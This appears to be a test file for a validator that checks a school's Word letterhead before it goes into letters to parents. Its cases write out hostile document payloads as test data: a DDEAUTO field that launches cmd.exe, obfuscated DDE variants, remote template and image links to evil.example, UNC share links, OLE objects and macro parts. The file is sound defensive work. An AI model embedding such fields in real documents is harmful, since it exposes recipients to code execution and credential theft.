import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { checkLetterhead } from '#main/documents/check-letterhead.ts';

// A letterhead goes into every letter that a school sends: what is wrong with it reaches parents.

const shipped = unzipSync(readFileSync('resources/letters/letterhead.docx'));

/** The shipped letterhead with parts changed or added; whether it is taken, or what is said. */
function taken(parts: Readonly<Record<string, string | Uint8Array | ((was: string) => string)>>): string {
  const changed: Record<string, Uint8Array> = { ...shipped };
  for (const [name, part] of Object.entries(parts)) {
    const content = typeof part === 'function' ? part(strFromU8(shipped[name] ?? new Uint8Array())) : part;
    changed[name] = typeof content === 'string' ? strToU8(content) : content;
  }
  const checked = checkLetterhead(zipSync(changed));
  return checked.ok ? 'taken' : checked.sentence;
}

const inFooter = (xml: string) =>
  taken({ 'word/footer1.xml': (was) => was.replace(/(<\/w:p>)/, `${xml}$1`) });
const relation = (xml: string) =>
  taken({
    'word/_rels/document.xml.rels': (was) => was.replace('</Relationships>', `${xml}</Relationships>`),
  });
const field = (...texts: readonly string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${texts.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const nested = `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${field(' TITLE ')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;

describe('a letterhead', () => {
  it('is taken as it is shipped, with dates, page numbers and links to web pages', () => {
    expect(taken({})).toBe('taken');
    expect(inFooter(field(' PAGE '))).toBe('taken');
    expect(inFooter(field(' DA', 'TE \\@ "d MMMM yyyy" '))).toBe('taken');
    expect(inFooter(field(' HYPERLINK "https://school.example/" '))).toBe('taken');
    expect(inFooter('<w:fldSimple w:instr=" NUMPAGES "/>')).toBe('taken');
  });

  it.each([
    ['a program', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
    ['one split over runs', field(' DD', 'EAU', 'TO c:\\\\x ')],
    ['one in small letters', field(' dde x ')],
    ['one with character codes', field(' &#68;&#68;&#69; x ')],
    ['a picture from elsewhere', field(' INCLUDEPICTURE "http://evil.example/p.png" \\d ')],
    ['a text from a share', field(' INCLUDETEXT "\\\\\\\\evil\\\\share\\\\x.docx" ')],
    ['a button', field(' MACROBUTTON x y ')],
    ['a field made of numbers', field(' QUOTE 68 68 69 ')],
    ['a link to a share', field(' HYPERLINK "file://evil/x" ')],
    ['a field within a field', nested],
    ['a simple field', '<w:fldSimple w:instr="DDEAUTO x y"/>'],
    ['a field under another prefix', '<x:fldSimple xmlns:x="urn:x" x:instr="DDE x"/>'],
    ['a page of another kind', '<w:altChunk r:id="rId1"/>'],
    ['an object', '<w:object><o:OLEObject ProgID="Package"/></w:object>'],
    ['a document in it', '<w:subDoc r:id="rId1"/>'],
  ])('with a field or part that brings in %s is refused', (_, xml) => {
    expect(inFooter(xml)).toMatch(/field \(|embedded object|not as Word writes/);
  });

  it.each([
    [
      'by codes',
      '<Relationship Id="r9" Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="&#69;xternal"/>',
    ],
    [
      'under a prefix',
      '<p:Relationship xmlns:p="urn:p" Id="r9" Type="x/image" Target="http://evil.example/i.png" TargetMode="External"/>',
    ],
    [
      'in small letters',
      '<Relationship Id="r9" Type="x/oleObject" Target="file:///c:/x" TargetMode="external"/>',
    ],
    [
      'as a link to a program',
      '<Relationship Id="r9" Type="x/hyperlink" Target="file:///c:/x.exe" TargetMode="External"/>',
    ],
    [
      'as a link to a share',
      '<Relationship Id="r9" Type="x/hyperlink" Target="\\\\evil\\x" TargetMode="External"/>',
    ],
  ])('that fetches something, written %s, is refused', (_, xml) => {
    expect(relation(xml)).toContain('fetches something from elsewhere');
  });

  it('in another encoding, where a search for words would find nothing, is refused', () => {
    const rels =
      '<?xml version="1.0" encoding="UTF-16"?><Relationships><Relationship Id="r1" Type="x/attachedTemplate" Target="http://evil.example" TargetMode="External"/></Relationships>';
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(rels, 'utf16le')]);
    expect(taken({ 'word/_rels/settings.xml.rels': utf16 })).toContain('not as Word writes it');
    expect(taken({ 'word/_rels/settings.xml.rels': Buffer.from(rels, 'utf16le') })).toContain(
      'not as Word writes it',
    );
  });

  it('with macros by any of their names is refused', () => {
    expect(taken({ 'word/vbaProject.bin': 'x' })).toContain('macros');
    expect(
      taken({
        '[Content_Types].xml': (was) =>
          was.replace(
            '</Types>',
            '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/></Types>',
          ),
      }),
    ).toContain('macros');
  });
});
